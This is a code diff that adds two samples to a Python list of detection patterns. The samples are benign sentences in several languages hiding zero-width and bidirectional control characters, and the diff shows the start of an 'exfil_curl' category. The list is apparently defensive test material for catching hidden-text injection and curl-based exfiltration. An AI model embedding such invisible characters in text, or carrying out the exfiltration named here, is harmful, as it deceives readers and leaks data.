@@ -1030,6 +1030,8 @@ HERMES_PATTERN_CORES: list[tuple[str, str]] = [
     ("invisible_unicode", "Der Server heißt build-01\u202d."),
     ("invisible_unicode", "Использовать\u202b ветку main.\u2068"),
     ("invisible_unicode", "Ship it\u2064 on Fridays."),
+    ("invisible_unicode", "Keep\u200b replies short."),
+    ("invisible_unicode", "\u2067مرحبا\u2069 is the greeting we use."),
     # language-independent ones in other languages
     (
         "exfil_curl",
